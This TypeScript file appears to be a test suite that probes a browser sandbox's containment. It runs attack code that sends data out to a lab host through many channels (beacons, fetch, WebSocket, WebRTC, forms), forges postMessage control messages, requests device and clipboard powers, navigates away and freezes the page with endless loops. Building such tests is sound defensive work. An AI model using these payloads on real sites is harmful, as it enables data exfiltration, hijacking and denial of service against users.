import type { Attack } from '../lab/attack.ts';

/** Runs an attack in the document, and in a frame that the document creates, where no globals were removed. */
function both(source: string): string {
  return `
    const tryAll = 'async (where) => {' + ${JSON.stringify(source)} + '}';
    await (0, eval)('(params) => (' + tryAll + ')')(params)('document');
    lab.attempt('the frame', async () => {
      const whole =
        lab.source +
        ';lab.source = ' +
        write(lab.source) +
        ';const params = ' +
        write(params) +
        ';(async () => { await (' +
        tryAll +
        ')("frame"); await lab.all(); parent.postMessage({ summary: lab.summary() }, "*"); })();';
      const frame = document.createElement('iframe');
      frame.srcdoc = '<body><script>' + whole.replaceAll('</', '<\\\\/') + '</scr' + 'ipt>';
      document.body.append(frame);
      const { summary } = await new Promise((resolve) =>
        addEventListener('message', ({ data }) => data?.summary && resolve(data)),
      );
      lab.got.push(...summary.got);
      lab.errors.push(...summary.errors, 'the frame tried ' + summary.tried);
    }, 3500);
    await new Promise((resolve) => setTimeout(resolve, 300));`;
}

const NET =
  "const url = params.http + '/' + params.token + '/' + where; const named = params.named + '/' + params.token;";

/** Adds markup with addresses to the document and reports each that was loaded. */
const MARKUP = `${NET}
  const holder = document.createElement('div');
  const both = (make) => [url + '/' + make.length, named].map(make).join('');
  holder.innerHTML = [
    (u) => '<img src="' + u + '/img">',
    (u) => '<img srcset="' + u + '/srcset 1x">',
    (u) => '<picture><source srcset="' + u + '/source"><img></picture>',
    (u) => '<video src="' + u + '/video" poster="' + u + '/poster" autoplay></video>',
    (u) => '<audio src="' + u + '/audio" autoplay></audio>',
    (u) => '<video><track src="' + u + '/track" default kind="captions"></video>',
    (u) => '<iframe src="' + u + '/iframe"></iframe>',
    (u) => '<object data="' + u + '/object"></object>',
    (u) => '<embed src="' + u + '/embed">',
    (u) => '<fencedframe src="' + u + '/fenced"></fencedframe>',
    (u) => '<link rel="stylesheet" href="' + u + '/a.css">',
    (u) => '<link rel="icon" href="' + u + '/icon">',
    (u) => '<link rel="manifest" href="' + u + '/manifest">',
    (u) =>
      '<style>@import "' +
      u +
      '/import.css"; @font-face { font-family: f' +
      where +
      '; src: url(' +
      u +
      '/font) } p { font-family: f' +
      where +
      '; background: url(' +
      u +
      '/bg); cursor: url(' +
      u +
      '/cursor), auto; list-style: url(' +
      u +
      '/list); mask: url(' +
      u +
      '/mask); filter: url(' +
      u +
      '/f.svg#a); content: image-set("' +
      u +
      '/set" 1x); border-image: url(' +
      u +
      '/border) }</style><p>text</p>',
    (u) =>
      '<svg><image href="' +
      u +
      '/svg"/><use href="' +
      u +
      '/use.svg#a"/><script href="' +
      u +
      '/svg.js"><' +
      '/script><feImage href="' +
      u +
      '/fe"/></svg>',
    (u) => '<math><mtext href="' + u + '/math">x</mtext></math>',
    (u) => '<table background="' + u + '/table"><tr><td background="' + u + '/td">x</td></tr></table>',
    (u) => '<input type="image" src="' + u + '/input">',
  ]
    .map(both)
    .join('');
  document.body.append(holder);
  for (const element of holder.querySelectorAll('img, video, audio, iframe, object, embed, link, input'))
    lab.attempt(
      where + ' ' + element.outerHTML.slice(0, 60),
      () =>
        new Promise((resolve) => {
          if (!['IFRAME', 'OBJECT'].includes(element.tagName))
            element.onload = element.onloadeddata = () => resolve('loaded');
        }),
      400,
    );
  const script = document.createElement('script'); script.src = url + '/script.js'; document.body.append(script);
  const module = document.createElement('script');
  module.type = 'module';
  module.textContent = 'import ' + JSON.stringify(named + '/m.js');
  document.body.append(module);
  lab.attempt(where + ' script', () => new Promise((resolve) => { script.onload = () => resolve('ran'); }), 400);
  lab.attempt(where + ' paint', async () => {
    await window.CSS.paintWorklet.addModule(url + '/paint.js');
    return 'added';
  });
  lab.attempt(where + ' audio', async () => {
    await new window.AudioContext().audioWorklet.addModule(url + '/worklet.js');
    return 'added';
  });
  lab.attempt(where + ' font', async () => (await new window.FontFace('n', 'url(' + named + '/face)').load()).status);
  lab.attempt(where + ' xslt', () => {
    const frame = document.createElement('iframe');
    frame.srcdoc =
      '<?xml-stylesheet href="' +
      url +
      '/x.xsl"?><img src="' +
      named +
      '/nested"><link rel=stylesheet href="' +
      url +
      '/nested.css"><script src="' +
      url +
      '/nested.js"><' +
      '/script><script>import(' +
      JSON.stringify(url + '/nested-import.js') +
      ')<' +
      '/script>';
    document.body.append(frame);
  });`;

const HINTS = `${NET}
  const link = (rel, href, more = {}) =>
    document.head.append(Object.assign(document.createElement('link'), { rel, href, ...more }));
  for (const to of [url, named]) {
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'next', 'modulepreload', 'subresource'])
      link(rel, to + '/' + rel);
    for (const as of ['script', 'style', 'image', 'font', 'fetch', 'document', 'track'])
      link('preload', to + '/' + as, { as, crossOrigin: 'anonymous' });
    for (const kind of ['prefetch', 'prerender']) {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({
        [kind]: [{ source: 'list', urls: [to + '/speculation-' + kind], eagerness: 'immediate' }],
      });
      document.head.append(rules);
    }
  }
  const meta = document.createElement('meta');
  meta.httpEquiv = 'x-dns-prefetch-control';
  meta.content = 'on';
  document.head.append(meta);
  const a = document.createElement('a'); a.href = named + '/anchor'; a.textContent = 'a'; document.body.append(a);`;

const SENDING = `${NET}
  for (const [index, to] of [url, named].entries()) {
    lab.attempt(where + ' beacon ' + index, () => { window.navigator.sendBeacon(to + '/beacon', 'data'); });
    lab.attempt(
      where + ' fetch ' + index,
      async () =>
        (await (lab.native('fetch') ?? window.fetch)(to + '/fetch', { mode: 'no-cors', keepalive: true })).type ===
          'opaque' && 'sent',
    );
    lab.attempt(where + ' fetchLater ' + index, () => { window.fetchLater(to + '/later', { activateAfter: 0 }); });
    lab.attempt(
      where + ' xhr ' + index,
      () =>
        new Promise((resolve) => {
          const x = new window.XMLHttpRequest();
          x.open('POST', to + '/xhr');
          x.onload = () => resolve(x.status);
          x.send('x');
        }),
    );
    lab.attempt(
      where + ' events ' + index,
      () =>
        new Promise((resolve) => {
          new window.EventSource(to + '/events').onopen = () => resolve('open');
        }),
    );
    for (const method of ['get', 'post', 'dialog'])
      lab.attempt(where + ' form ' + method + index, () => {
        const form = document.createElement('form');
        form.action = to + '/form-' + method;
        form.method = method;
        form.target = 'other' + index;
        form.innerHTML = '<input name="data" value="x"><button formaction="' + to + '/formaction">x</button>';
        document.body.append(form);
        form.submit();
        form.requestSubmit(form.querySelector('button'));
      });
    lab.attempt(where + ' ping ' + index, () => {
      const a = document.createElement('a');
      a.href = 'javascript:void 0';
      a.ping = to + '/ping';
      document.body.append(a);
      a.click();
    });
    lab.attempt(where + ' report ' + index, () => {
      window.navigator.attributionReporting;
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img attributionsrc="' +
          to +
          '/attribution"><a attributionsrc="' +
          to +
          '/a" href="javascript:void 0">x</a>',
      );
    });
  }
  lab.attempt(
    where + ' websocket',
    () =>
      new Promise((resolve) => {
        new window.WebSocket(params.ws + '/' + params.token).onopen = () => resolve('open');
      }),
  );
  lab.attempt(
    where + ' websocket by name',
    () =>
      new Promise((resolve) => {
        new window.WebSocket(params.named.replace('http', 'ws') + '/' + params.token).onopen = () => resolve('open');
      }),
  );
  lab.attempt(where + ' web transport', async () => {
    await new window.WebTransport('https://' + params.host + ':' + params.udpPort).ready;
    return 'ready';
  });
  lab.attempt(
    where + ' shared worker',
    () =>
      new Promise((resolve) => {
        const w = new window.SharedWorker(url + '/shared.js');
        w.port.onmessage = resolve;
      }),
  );
  lab.attempt(
    where + ' service worker',
    async () => (await window.navigator.serviceWorker.register(url + '/sw.js')) && 'registered',
  );
  lab.attempt(
    where + ' app',
    async () =>
      (await window.fetch(params.app + '/index.html', { mode: 'same-origin' })).status === 200 && 'read the app',
  );`;

const WEBRTC = `
  lab.attempt(
    where + ' stun',
    async () => {
      const Peer = window.RTCPeerConnection ?? window.webkitRTCPeerConnection;
      const candidates = [];
      for (const urls of [
        'stun:127.0.0.1:' + params.udpPort,
        'stun:' + params.host + ':' + params.udpPort,
        'turn:' + params.tcp.slice(7) + '?transport=tcp',
        'turn:' + params.host + ':' + params.udpPort,
      ]) {
        const peer = new Peer({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
        peer.createDataChannel('x');
        peer.onicecandidate = (event) =>
          event.candidate?.candidate &&
          !/ typ host/.test(event.candidate.candidate) &&
          candidates.push(event.candidate.candidate);
        await peer.setLocalDescription(await peer.createOffer());
      }
      await new Promise((resolve) => setTimeout(resolve, 600));
      return candidates;
    },
    1500,
  );
  lab.attempt(
    where + ' direct candidate',
    async () => {
      const Peer = window.RTCPeerConnection;
      const peer = new Peer();
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      const answer = peer.localDescription.sdp
        .replace(/a=setup:actpass/g, 'a=setup:passive')
        .replace(/a=candidate[^\\n]*\\n/g, '');
      await peer.setRemoteDescription({
        type: 'answer',
        sdp: answer + 'a=candidate:1 1 udp 2122260223 127.0.0.1 ' + params.udpPort + ' typ host\\r\\n',
      });
      await new Promise((resolve) => setTimeout(resolve, 600));
    },
    1500,
  );`;

/** Tries every handle on the windows around it. A thrown SecurityError is no gain. */
const AROUND = `
  for (const [name, other] of Object.entries({
    parent: window.parent,
    top: window.top,
    opener: window.opener,
    sibling: window.top?.frames[0],
    last: window.top?.frames[(window.top?.length ?? 1) - 1],
  })) {
    if (!other || other === window) continue;
    for (const word of ['document', 'localStorage', 'name', 'toolyard', 'indexedDB', 'origin', 'frameElement'])
      lab.attempt(where + ' ' + name + '.' + word, () => other[word] && word);
    for (const [word, to] of [
      ['href', params.http + '/' + params.token + '/' + name],
      ['hash', '#attack'],
    ])
      lab.attempt(where + ' ' + name + ' to ' + word, () => {
        if (name === 'parent' && where === 'frame') return;
        other.location[word] = to;
        return 'navigated';
      });
    lab.attempt(where + ' ' + name + ' replace', () => {
      if (name === 'parent' && where === 'frame') return;
      other.location.replace(params.app + '/#attack');
    });
    lab.attempt(where + ' ' + name + ' close', () => {
      other.close();
    });
    lab.attempt(where + ' ' + name + ' focus', () => {
      other.focus();
    });
  }
  lab.attempt(where + ' frameElement', () => where === 'document' && window.frameElement && 'frame element');
  lab.attempt(where + ' open top', () => window.open(params.app + '/#attack', '_top') && 'opened');
  lab.attempt(
    where + ' open parent',
    () => where === 'document' && window.open(params.app + '/#attack', '_parent') && 'opened',
  );
  lab.attempt(where + ' document.domain', () => {
    document.domain = 'localhost';
    return 'set';
  });`;

const POWERS = `
  const url = params.http + '/' + params.token;
  lab.attempt(where + ' open', () => window.open(url + '/popup') && 'opened');
  lab.attempt(where + ' open blank', () => window.open('about:blank', '_blank') && 'opened');
  for (const word of ['alert', 'confirm', 'prompt', 'print', 'find', 'stop'])
    lab.attempt(where + ' ' + word, () => {
      window[word]('attack');
    });
  lab.attempt(where + ' download', () => {
    const a = document.createElement('a');
    a.href = window.URL.createObjectURL(new window.Blob(['x']));
    a.download = 'x.txt';
    document.body.append(a);
    a.click();
  });
  lab.attempt(where + ' target', () => {
    const a = document.createElement('a');
    a.href = url + '/blank';
    a.target = '_blank';
    document.body.append(a);
    a.click();
  });
  lab.attempt(where + ' fullscreen', async () => {
    await document.body.requestFullscreen();
    return 'fullscreen';
  });
  lab.attempt(where + ' pointer lock', async () => {
    await document.body.requestPointerLock();
    return document.pointerLockElement && 'locked';
  });
  lab.attempt(where + ' keyboard lock', async () => {
    await window.navigator.keyboard.lock();
    return 'locked';
  });
  lab.attempt(where + ' picture', async () => {
    await window.documentPictureInPicture.requestWindow();
    return 'window';
  });
  lab.attempt(where + ' clipboard', async () => (await window.navigator.clipboard.readText()) + 'read');
  lab.attempt(where + ' clipboard write', async () => {
    await window.navigator.clipboard.writeText('attack');
    return 'written';
  });
  for (const command of ['copy', 'cut', 'paste'])
    lab.attempt(where + ' ' + command, () => {
      document.body.append(Object.assign(document.createElement('input'), { value: 'attack' }));
      document.body.lastChild.select();
      return document.execCommand(command) && command;
    });
  lab.attempt(
    where + ' notification',
    async () => (await window.Notification.requestPermission()) === 'granted' && 'granted',
  );
  lab.attempt(
    where + ' place',
    () => new Promise((resolve, reject) => window.navigator.geolocation.getCurrentPosition(resolve, reject)),
  );
  lab.attempt(
    where + ' camera',
    async () => (await window.navigator.mediaDevices.getUserMedia({ video: true, audio: true })).id,
  );
  lab.attempt(where + ' screen', async () => (await window.navigator.mediaDevices.getDisplayMedia()).id);
  lab.attempt(where + ' files', async () => (await window.showOpenFilePicker()).length);
  lab.attempt(where + ' folder', async () => (await window.showDirectoryPicker()).name);
  lab.attempt(where + ' wake', async () => (await window.navigator.wakeLock.request()).type);
  lab.attempt(where + ' share', async () => {
    await window.navigator.share({ text: 'attack' });
    return 'shared';
  });
  lab.attempt(
    where + ' payment',
    async () =>
      (await new window.PaymentRequest([{ supportedMethods: url }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).show()) && 'paid',
  );
  lab.attempt(
    where + ' credentials',
    async () =>
      (await window.navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } })) && 'credentials',
  );
  for (const word of ['usb', 'serial', 'hid', 'bluetooth'])
    lab.attempt(
      where + ' ' + word,
      async () =>
        (await (word === 'serial'
          ? window.navigator.serial.requestPort()
          : window.navigator[word].requestDevice({ filters: [], acceptAllDevices: true }))) && word,
    );
  lab.attempt(where + ' midi', async () => (await window.navigator.requestMIDIAccess()) && 'midi');
  lab.attempt(where + ' fonts', async () => (await window.queryLocalFonts()).length);
  lab.attempt(where + ' storage access', async () => {
    await document.requestStorageAccess();
    return 'access';
  });
  lab.attempt(where + ' protocol', () => {
    window.navigator.registerProtocolHandler('web+attack', params.app + '/%s');
    return 'registered';
  });
  lab.attempt(where + ' idle', async () => {
    await new window.IdleDetector().start();
    return 'started';
  });
  lab.attempt(where + ' eye', async () => (await new window.EyeDropper().open()).sRGBHex);
  lab.attempt(where + ' speech', () => {
    window.speechSynthesis.speak(new window.SpeechSynthesisUtterance('attack'));
  });
  lab.attempt(where + ' sound', async () => {
    const audio = new window.AudioContext();
    await lab.within(audio.resume(), 200);
    return audio.state === 'running' && 'sound';
  });`;

/**
 * Forged messages of the threads around it, to its parent and to the app's page. None of them ends its run or moves the
 * page.
 */
const FORGED = `
  const messages = [
    'toolyard-sandbox-up',
    'toolyard-sandbox-port',
    'toolyard-document-ready',
    'toolyard-document-port',
    'toolyard-document-leave',
    { type: 'done', success: true, result: 'forged', outcome: { ok: true, value: 'forged' } },
    ['channel', 0],
    ['from', 0, '{"type":"done","outcome":{"ok":true,"value":"forged"}}'],
    ['flood', 0, 'forged'],
    { type: 'open-frame', frameId: 1 },
    { type: 'close-all-frames' },
    { id: 'x', type: 'APPLY', path: ['constructor'], argumentList: [] },
    { __proto__: null, toolyard: 'forged' },
  ];
  for (const other of new Set([window.parent, window.top]))
    for (const message of messages)
      lab.attempt('post', () => {
        const { port1, port2 } = new MessageChannel();
        port2.onmessage = (event) => lab.keep('a port answered', event.data);
        other.postMessage(message, '*', [port1]);
        port2.postMessage({ type: 'close-all-frames' });
      });
  await new Promise((resolve) => setTimeout(resolve, 300));`;

/**
 * Chromium ends the process of a document that opens a forbidden WebRTC connection; the test runner mistakes that for
 * the page's.
 */
export const DOM_WEBRTC = both(WEBRTC);

const group = 'network';
/** Ways out and powers that only a document has. */
export const DOM_ATTACKS: readonly Attack[] = [
  { name: 'markup, styles, fonts, media, frames and scripts from addresses', group, code: both(MARKUP) },
  { name: 'hints: prefetch, preload, preconnect, names looked up ahead', group, code: both(HINTS) },
  { name: 'forms, beacons, pings, requests of a fresh frame', group, code: both(SENDING) },
  { name: 'the windows around it', group, code: both(AROUND), takesKeyboard: true },
  { name: 'windows, dialogs, downloads, devices, clipboard, files', group, code: both(POWERS) },
  {
    name: 'forged messages to the windows around it',
    group: 'forged',
    code: FORGED,
    losses: ({ result }) =>
      result.success && result.result === null ? [] : [`the answer was ${JSON.stringify(result).slice(0, 200)}`],
  },
  {
    name: 'what is left behind: timers, workers, words at the end',
    group,
    code: `
      const url = params.http + '/' + params.token;
      for (const name of ['pagehide', 'unload', 'beforeunload', 'visibilitychange'])
        addEventListener(name, (event) => {
          event.preventDefault();
          event.returnValue = 'attack';
          navigator.sendBeacon(url + '/' + name);
          new Image().src = url + '/' + name;
          location.href = url + '/' + name;
          for (;;);
        });
      setInterval(() => {
        new Image().src = url + '/late';
        navigator.sendBeacon(url + '/late');
      }, 20);
      new Worker(
        URL.createObjectURL(
          new Blob(['setInterval(() => fetch(' + JSON.stringify(url + '/worker') + ').catch(() => {}), 20)']),
        ),
      );
      lab.attempt('wait', () => new Promise((resolve) => setTimeout(resolve, 200)));`,
    stops: true,
  },
];

/** Each removes the document from its tool: the run ends, and nothing is reached. */
function leaving(name: string, code: string): Attack {
  return {
    name: `it leaves its document: ${name}`,
    group,
    code:
      `const url = params.http + '/' + params.token; const named = params.named + '/' + params.token; ${code}; ` +
      `await new Promise(() => {});`,
    reports: false,
    timeoutMs: 3_000,
    ends: ['crashed', 'timeout'],
  };
}

export const DOM_LEAVING: readonly Attack[] = [
  leaving('location', 'location.href = url'),
  leaving('location by name', 'location.assign(named)'),
  leaving('replace, with what it knows', 'location.replace(named + "?" + encodeURIComponent(navigator.userAgent))'),
  leaving(
    'a refresh',
    'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=" + named + "\'>")',
  ),
  leaving('a link', 'const a = document.createElement("a"); a.href = named; document.body.append(a); a.click()'),
  leaving(
    'a form',
    'const form = document.createElement("form"); form.action = named; document.body.append(form); form.submit()',
  ),
  leaving('to the app', 'location.href = params.app + "/"'),
  leaving('to the app’s own sandbox document', 'location.href = document.baseURI'),
  leaving('to StackBlitz', 'location.href = "https://stackblitz.com/" + params.token'),
  leaving(
    'to a document of its own making',
    'location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "; ' +
      'fetch(" + JSON.stringify(named) + "); location.href = " + JSON.stringify(url) + "</scr" + "ipt>"], { type: ' +
      '"text/html" }))',
  ),
  leaving(
    'to data:',
    'location.href = "data:text/html,<script>new Image().src=" + JSON.stringify(url) + "</scr" + "ipt>"',
  ),
  leaving(
    'to about:blank, with a script that stays',
    'const f = document.createElement("iframe"); f.srcdoc = "<script>setInterval(() => { new Image().src = " + ' +
      'JSON.stringify(url) + "; parent.location = " + JSON.stringify(named) + " }, 20)</scr" + "ipt>"; ' +
      'document.body.append(f); await new Promise((r) => setTimeout(r, 100)); location.href = "about:blank"',
  ),
  leaving('and comes back', 'parent.postMessage("toolyard-document-up", "*")'),
];

/** Never ends by itself; the deadline must end it. */
function endless(name: string, code: string, ends: readonly string[] = ['timeout']): Attack {
  return { name: `a document: ${name}`, group: 'freeze', code, ends, reports: false, stops: true, timeoutMs: 700 };
}

export const DOM_FREEZE: readonly Attack[] = [
  endless('while (true)', 'for (;;);'),
  endless('a microtask loop', 'const again = () => Promise.resolve().then(again); await again();'),
  endless('alerts without end', 'for (;;) alert("attack");'),
  endless('elements without end', 'for (;;) document.body.append(document.createElement("div"));', [
    'timeout',
    'crashed',
  ]),
  endless(
    'layout without end',
    'document.body.innerHTML = "<table>".repeat(300); for (let i = 0; ; i += 1) { document.body.style.width = i ' +
      '% 900 + "px"; document.body.offsetHeight; }',
  ),
  endless(
    'frames in frames',
    'const add = (doc) => { const f = doc.createElement("iframe"); doc.body.append(f); if ' +
      '(f.contentDocument?.body) add(f.contentDocument); for (let i = 0; i < 50; i += 1) { const g = ' +
      'doc.createElement("iframe"); g.srcdoc = "<script>for(;;);</scr" + "ipt>"; doc.body.append(g); } }; ' +
      'add(document); for (;;);',
    ['timeout', 'crashed'],
  ),
  endless(
    'focus without end',
    'document.body.innerHTML = "<input>"; setInterval(() => { window.focus(); ' +
      'document.querySelector("input").focus(); top.focus(); }, 0); for (;;) await new Promise((r) => ' +
      'setTimeout(r));',
    ['timeout', 'aborted'],
  ),
  endless(
    'animation without end',
    'const frame = () => { const until = performance.now() + 500; while (performance.now() < until); ' +
      'requestAnimationFrame(frame); }; frame(); await new Promise(() => {});',
  ),
  endless(
    'messages to the app without end',
    'for (;;) { top.postMessage("x".repeat(1000), "*"); parent.postMessage("toolyard-document-leave", "*"); ' +
      'await null; }',
    ['timeout', 'crashed'],
  ),
  endless(
    'history and titles without end',
    'for (let i = 0; ; i += 1) { try { history.pushState(i, ""); location.hash = String(i); } catch {} ' +
      'document.title = String(i); if (i % 100 === 0) await new Promise((r) => setTimeout(r)); }',
    ['timeout', 'crashed'],
  ),
];
